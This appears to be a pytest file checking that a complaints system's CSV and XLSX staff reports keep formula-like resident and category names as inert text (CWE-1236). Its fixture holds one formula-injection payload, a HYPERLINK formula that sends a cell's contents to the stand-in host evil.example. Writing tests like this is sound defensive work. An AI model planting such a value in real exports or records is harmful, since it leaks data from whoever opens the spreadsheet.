"""The report downloads keep a resident's details as text: a name like =HYPERLINK(...) never runs (CWE-1236)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from putright.accounts.models import Role
from putright.cases.models import Resident
from putright.landlord.models import Category
from tests.governance.scenario import Scenario

pytestmark = pytest.mark.django_db
Q1 = "start-day=1&start-month=4&start-year=2026&end-day=30&end-month=6&end-year=2026"
NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
PHONE = "+44 20 7946 0000"


@pytest.fixture
def officer_client(client, make_user, scenario: Scenario):
    complaint = scenario.complaints["A"]
    Resident.objects.filter(pk=complaint.resident_id).update(name=NAME, phone=PHONE)
    client.force_login(make_user(Role.COMPLAINTS_OFFICER))
    return client, complaint.reference


def test_the_case_list_csv_reads_back_with_a_quote_before_a_formula(officer_client):
    client, reference = officer_client
    response = client.get(f"/staff/reports/complaints.csv?{Q1}")
    rows = {
        r["reference"]: r for r in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    }
    assert rows[reference]["resident_name"] == "'" + NAME
    assert rows[reference]["resident_phone"] == "'" + PHONE


def test_the_case_list_xlsx_reads_back_with_the_name_as_a_plain_string(officer_client):
    client, reference = officer_client
    sheet = load_workbook(io.BytesIO(client.get(f"/staff/reports/complaints.xlsx?{Q1}").content))[
        "Complaints"
    ]
    header, *rows = list(sheet.iter_rows())
    columns = [c.value for c in header]
    (row,) = [r for r in rows if r[columns.index("reference")].value == reference]
    name, phone = row[columns.index("resident_name")], row[columns.index("resident_phone")]
    assert (name.value, name.data_type) == (NAME, "s")
    assert (phone.value, phone.data_type) == (PHONE, "s")


def test_the_figures_keep_a_category_named_like_a_formula_as_text(client, make_user, scenario: Scenario):
    Category.objects.filter(slug="repairs").update(name="@SUM(1+1)")
    client.force_login(make_user(Role.GOVERNANCE))
    text = client.get(f"/staff/reports/figures.csv?{Q1}").content.decode()
    assert "categories.@SUM(1+1).stage1" in text
    book = load_workbook(io.BytesIO(client.get(f"/staff/reports/figures.xlsx?{Q1}").content))
    names = [c for (c, *_) in book["Categories"].iter_rows(min_row=2)]
    (category,) = [c for c in names if c.value == "@SUM(1+1)"]
    assert category.data_type == "s" and category.quotePrefix
